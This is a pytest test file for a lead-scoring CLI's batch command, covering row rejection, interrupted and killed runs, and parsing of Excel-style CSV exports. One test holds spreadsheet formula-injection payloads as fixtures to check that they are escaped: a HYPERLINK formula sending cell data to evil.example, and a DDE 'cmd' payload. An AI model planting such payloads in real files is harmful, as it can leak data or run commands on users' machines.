"""`leadscore score IN -o OUT`, run in-process: chunks, rejects with reasons, no half runs."""

from __future__ import annotations

import sqlite3
import time

import numpy as np
import pandas as pd
import pytest
from stages import run_score

from leadscore.model.bundle import load_bundle
from leadscore.scoring.scorer import score_leads


def test_batch_scores_equal_the_pipeline_in_chunks(tmp_path, leads_csv, tiny_bundle_dir):
    out = tmp_path / "scores.parquet"
    database = tmp_path / "log.db"
    done = run_score(
        str(leads_csv), "-o", str(out), "--model", str(tiny_bundle_dir), "--chunk-size", "128",
        "--database-url", f"sqlite:///{database}",
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    assert "scored 500 leads" in done.output
    scores = pd.read_parquet(out)
    bundle = load_bundle(tiny_bundle_dir)
    expected = score_leads(bundle, pd.read_csv(leads_csv, dtype={"lead_id": str}))
    np.testing.assert_allclose(scores["probability"], expected["probability"], atol=1e-12)
    assert (scores["grade"] == expected["grade"]).all()
    assert (scores["lead_id"] == expected["lead_id"].astype(str)).all()
    with sqlite3.connect(database) as connection:
        count, source = connection.execute(
            "SELECT COUNT(*), MIN(source) FROM scored_leads"
        ).fetchone()
    assert (count, source) == (500, "batch")


def test_bad_rows_are_rejected_with_their_reason(tmp_path, leads_csv, tiny_bundle_dir):
    frame = pd.read_csv(leads_csv, dtype=str)
    frame.loc[3, "website_visits"] = "lots"
    frame.loc[5, "pages_per_visit"] = "-2"
    frame.loc[8, "lead_id"] = None
    source = tmp_path / "leads.csv"
    frame.to_csv(source, index=False)
    out = tmp_path / "scores.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log")
    assert done.exit_code == 0, done.output
    assert len(pd.read_csv(out)) == len(frame) - 3
    rejected = pd.read_csv(tmp_path / "scores.rejected.csv")
    assert rejected["rejected_reason"].tolist() == [
        "website_visits: not a valid value",
        "pages_per_visit: must be >= 0",
        "lead_id: missing",
    ]


def test_a_file_without_lead_ids_is_refused(tmp_path, tiny_bundle_dir):
    source = tmp_path / "no_ids.csv"
    pd.DataFrame({"channel": ["webinar"]}).to_csv(source, index=False)
    done = run_score(str(source), "-o", str(tmp_path / "o.csv"), "--model", str(tiny_bundle_dir))
    assert done.exit_code == 1 and "no 'lead_id' column" in done.output


# --- a run never half-finishes ---------------------------------------------------------------


def test_malformed_lines_are_rejected_with_line_and_reason(tmp_path, leads_csv, tiny_bundle_dir):
    lines = leads_csv.read_bytes().splitlines(keepends=True)
    lines[3] = lines[3].rstrip(b"\n") + b",an extra field\n"  # line 4 of the file
    lines[6] = lines[6].replace(b",", b",\xff\xfe", 1)  # line 7: bytes that are not UTF-8
    source = tmp_path / "leads.csv"
    source.write_bytes(b"".join(lines))
    out = tmp_path / "scores.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log",
                     "--encoding", "utf-8")  # fmt: skip
    assert done.exit_code == 0, done.output
    assert len(pd.read_csv(out)) == 498 and "2 malformed lines" in done.output
    rejected = pd.read_csv(tmp_path / "scores.rejected.csv")
    assert rejected["line"].tolist() == [4, 7]
    assert "fields where the header has" in rejected["rejected_reason"][0]
    assert "not utf-8 text" in rejected["rejected_reason"][1]
    assert "an extra field" in rejected["raw_line"][0]


def test_an_interrupted_run_leaves_nothing_and_a_rerun_logs_once(
    tmp_path, leads_csv, tiny_bundle_dir
):
    from leadscore.scoring.batch import score_file
    from leadscore.scoring.loading import load_served_model
    from leadscore.scoring.log import ScoringLog

    scorer = load_served_model(str(tiny_bundle_dir)).scorer
    out, url = tmp_path / "scores.parquet", f"sqlite:///{tmp_path / 'log.db'}"
    chunks = []

    def interrupt_after_two_chunks(n: int) -> None:  # as Ctrl-C between chunks would
        chunks.append(n)
        if len(chunks) == 2:
            raise KeyboardInterrupt

    log = ScoringLog(url)
    with pytest.raises(KeyboardInterrupt):
        score_file(scorer, leads_csv, out, chunk_size=100, scoring_log=log,
                   progress=interrupt_after_two_chunks)  # fmt: skip
    log.close()
    assert list(tmp_path.glob("*scores*")) == []  # no output, no partial file
    assert logged(url) == 200  # the two chunks scored before the interruption

    done = run_score(str(leads_csv), "-o", str(out), "--model", str(tiny_bundle_dir),
                     "--chunk-size", "100", "--database-url", url)  # fmt: skip
    assert done.exit_code == 0, done.output
    assert len(pd.read_parquet(out)) == 500 and logged(url) == 500  # not 700
    again = run_score(str(leads_csv), "-o", str(out), "--model", str(tiny_bundle_dir),
                      "--database-url", url)  # fmt: skip
    assert again.exit_code == 0 and logged(url) == 500  # a re-run logs no lead twice


def logged(url: str) -> int:
    with sqlite3.connect(url.removeprefix("sqlite:///")) as connection:
        return connection.execute("SELECT COUNT(*) FROM scored_leads").fetchone()[0]


@pytest.mark.parametrize("content", [b"", b"lead_id,channel\n"])
def test_an_empty_file_gets_a_clear_error(tmp_path, tiny_bundle_dir, content):
    source = tmp_path / "empty.csv"
    source.write_bytes(content)
    out = tmp_path / "o.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log")
    assert done.exit_code == 1 and ("is empty" in done.output or "no leads" in done.output)
    assert not out.exists()


@pytest.mark.parametrize("reasons", ["--reasons", "--no-reasons"])
def test_a_timestamp_in_a_numeric_column_is_refused(tmp_path, leads_csv, tiny_bundle_dir, reasons):
    frame = pd.read_csv(leads_csv, dtype={"lead_id": str}).head(20)
    frame["website_visits"] = pd.Timestamp("2026-02-01")
    source = tmp_path / "leads.parquet"
    frame.to_parquet(source)
    out = tmp_path / "o.parquet"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), reasons,
                     "--no-log")  # fmt: skip
    assert done.exit_code == 1, done.output
    assert "'website_visits' holds datetime64" in done.output and "a number" in done.output
    assert not out.exists()


@pytest.mark.parametrize("mode", ["warn", "reject"])
def test_repeated_lead_ids_in_a_file_are_reported(tmp_path, leads_csv, tiny_bundle_dir, mode):
    frame = pd.read_csv(leads_csv, dtype=str).head(30)
    frame.loc[10, "lead_id"] = frame.loc[2, "lead_id"]  # line 12 repeats line 4's id
    source = tmp_path / "leads.csv"
    frame.to_csv(source, index=False)
    out = tmp_path / "scores.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log",
                     "--duplicates", mode)  # fmt: skip
    assert done.exit_code == 0, done.output
    assert "1 repeated lead ids" in done.output and "(lines 4 and 12)" in done.output
    scores = pd.read_csv(out, keep_default_na=False)
    if mode == "warn":
        assert len(scores) == 30 and "lead_id: also on line 4" in scores["warnings"][10]
    else:
        assert len(scores) == 29
        rejected = pd.read_csv(tmp_path / "scores.rejected.csv")
        assert rejected[["line", "rejected_reason"]].values.tolist() == [
            [12, "lead_id: duplicate of line 4"]
        ]


# --- the reader training uses, and every line accounted for -----------------------------------


def export_like(leads_csv, copies: int = 6) -> pd.DataFrame:
    """3,000 distinct leads as text; every 50th id has accents and the delimiter (quoted)."""
    base = pd.read_csv(leads_csv, dtype=str, keep_default_na=False)
    frame = pd.concat([base.assign(lead_id=base["lead_id"] + f"-{k}") for k in range(copies)])
    frame = frame.reset_index(drop=True)
    fancy = frame.index % 50 == 0
    frame.loc[fancy, "lead_id"] = [f"Müller; Café Crème {i}" for i in frame.index[fancy]]
    return frame


def with_stray_quote(text: str, sep: str, line: int) -> str:
    """The file with a `"` opening the second field of `line` (1-based), never closed."""
    lines = text.splitlines(keepends=True)
    lines[line - 1] = lines[line - 1].replace(sep, sep + '"', 1)
    return "".join(lines)


@pytest.mark.parametrize(
    ("encoding", "sep", "detected"),
    [("utf-8-sig", ";", "utf-8-sig"), ("latin-1", ";", "cp1252"), ("utf-8", ",", "utf-8")],
)
def test_an_excel_export_with_stray_quotes_accounts_for_every_line(
    tmp_path, leads_csv, tiny_bundle_dir, encoding, sep, detected
):
    """A UTF-8 BOM (Excel's "CSV UTF-8") or Latin-1 text, `;` delimiters, and two stray quotes
    (closed by a later quoted field, or running to the end): each costs its own line only;
    scored + rejected = the 3,000 rows read. Before, a stray quote swallowed every row after
    it (exit 0), and a BOM or `;` file was refused."""
    from leadscore.core.io import TableReadError, read_table_with_format

    frame = export_like(leads_csv)
    text = frame.to_csv(sep=sep, index=False)
    clean = tmp_path / "clean.csv"
    clean.write_bytes(text.encode(encoding))
    source = tmp_path / "export.csv"
    broken = with_stray_quote(with_stray_quote(text, sep, 2172), sep, 2992)
    source.write_bytes(broken.encode(encoding))
    out = tmp_path / "scores.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log")
    assert done.exit_code == 0, done.output
    assert "2,998 scored + 2 rejected = 3,000 rows read" in done.output
    assert "3,001 lines (1 header, 0 blank, 3,000 rows; delimiter " in done.output

    rejected = pd.read_csv(tmp_path / "scores.rejected.csv", dtype=str)
    assert rejected["line"].tolist() == ["2172", "2992"]
    assert rejected["rejected_reason"].str.contains("a quote opened on this line").all()
    scores = pd.read_csv(out, dtype=str, keep_default_na=False)
    kept = frame.drop(index=[2170, 2990])["lead_id"]
    assert scores["lead_id"].tolist() == kept.tolist()  # every other lead, accents intact
    assert (scores["lead_id"] == "Müller; Café Crème 2950").sum() == 1  # after both quotes

    # training reads the same file with the same rule: the clean file gives the same leads,
    # and the broken one is refused at the same line
    trained, fmt = read_table_with_format(clean, dtype=str)
    assert (fmt.sep, fmt.encoding) == (sep, detected)
    assert trained["lead_id"].drop(index=[2170, 2990]).tolist() == kept.tolist()
    with pytest.raises(TableReadError, match="line 2172: a quote opened on this line"):
        read_table_with_format(source, dtype=str)


def test_formula_cells_are_escaped_in_csv_output(tmp_path, leads_csv, tiny_bundle_dir):
    import csv

    frame = pd.read_csv(leads_csv, dtype=str, keep_default_na=False).head(10)
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    frame.loc[[1, 2, 3, 4], "lead_id"] = [hyperlink, "@SUM(A1:A9)", "+1 555 0100", "-42"]
    frame.loc[5, "lead_id"] = "-2+3+cmd|' /C calc'!A0"
    frame.loc[6, "pages_per_visit"] = "-2"  # rejected: its raw cell stays a number
    source = tmp_path / "leads.csv"
    frame.to_csv(source, index=False)
    out = tmp_path / "scores.csv"
    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log")
    assert done.exit_code == 0, done.output
    with out.open(newline="") as handle:
        ids = [row["lead_id"] for row in csv.DictReader(handle)]
    assert ids[1:6] == ["'" + hyperlink, "'@SUM(A1:A9)", "'+1 555 0100", "-42",
                        "'-2+3+cmd|' /C calc'!A0"]  # fmt: skip
    with (tmp_path / "scores.rejected.csv").open(newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["pages_per_visit"] == "-2" and row["line"] == "8"

    parquet = tmp_path / "scores.parquet"  # not a spreadsheet format: the ids as they are
    done = run_score(str(source), "-o", str(parquet), "--model", str(tiny_bundle_dir), "--no-log")
    assert pd.read_parquet(parquet)["lead_id"].tolist()[1] == hyperlink


def test_a_clean_run_removes_the_rejected_file_of_an_earlier_run(
    tmp_path, leads_csv, tiny_bundle_dir
):
    frame = pd.read_csv(leads_csv, dtype=str).head(50)
    bad = frame.copy()
    bad.loc[3, "website_visits"] = "lots"
    source = tmp_path / "leads.csv"
    out, rejected = tmp_path / "scores.csv", tmp_path / "scores.rejected.csv"
    model = ["--model", str(tiny_bundle_dir), "--no-log"]
    bad.to_csv(source, index=False)
    assert run_score(str(source), "-o", str(out), *model).exit_code == 0
    assert rejected.is_file() and len(pd.read_csv(out)) == 49
    frame.to_csv(source, index=False)
    assert run_score(str(source), "-o", str(out), *model).exit_code == 0
    assert len(pd.read_csv(out)) == 50 and not rejected.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["leads.csv", "scores.csv"]


def test_a_killed_run_leaves_a_partial_directory_the_next_run_removes(
    tmp_path, leads_csv, tiny_bundle_dir
):
    """kill -9 in the middle of a run: no output; the next run removes the `.partial`."""
    import signal
    import subprocess
    import sys

    frame = pd.concat([pd.read_csv(leads_csv, dtype=str)] * 40, ignore_index=True)
    frame["lead_id"] = [f"L{i}" for i in range(len(frame))]
    source = tmp_path / "leads.csv"
    frame.to_csv(source, index=False)
    out = tmp_path / "scores.csv"
    command = [sys.executable, "-m", "leadscore.cli", "score", str(source), "-o", str(out),
               "--model", str(tiny_bundle_dir), "--no-log", "--chunk-size", "50"]  # fmt: skip
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while process.poll() is None and not list(tmp_path.glob(".scores.csv.*.partial")):
        time.sleep(0.01)  # until it writes its first chunk
    process.send_signal(signal.SIGKILL)
    assert process.wait() == -signal.SIGKILL  # killed while scoring, not finished
    assert list(tmp_path.glob(".scores.csv.*.partial")) and not out.exists()

    done = run_score(str(source), "-o", str(out), "--model", str(tiny_bundle_dir), "--no-log")
    assert done.exit_code == 0, done.output
    assert len(pd.read_csv(out)) == len(frame)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["leads.csv", "scores.csv"]


def test_a_failed_run_leaves_the_previous_output_and_rejected_file_as_they_were(
    tmp_path, leads_csv, tiny_bundle_dir
):
    frame = pd.read_csv(leads_csv, dtype=str).head(40)
    frame.loc[3, "website_visits"] = "lots"
    source = tmp_path / "leads.csv"
    frame.to_csv(source, index=False)
    out, rejected = tmp_path / "scores.csv", tmp_path / "scores.rejected.csv"
    model = ["--model", str(tiny_bundle_dir), "--no-log"]
    assert run_score(str(source), "-o", str(out), *model).exit_code == 0
    before = out.read_bytes(), rejected.read_bytes()

    dated = pd.read_csv(leads_csv, dtype={"lead_id": str}).head(40)
    dated["website_visits"] = pd.Timestamp("2026-02-01")  # refused at the first chunk
    failing = tmp_path / "dated.parquet"
    dated.to_parquet(failing)
    done = run_score(str(failing), "-o", str(out), *model)
    assert done.exit_code == 1 and "holds datetime64" in done.output
    assert (out.read_bytes(), rejected.read_bytes()) == before  # the pair, untouched
    assert not list(tmp_path.glob(".*partial"))
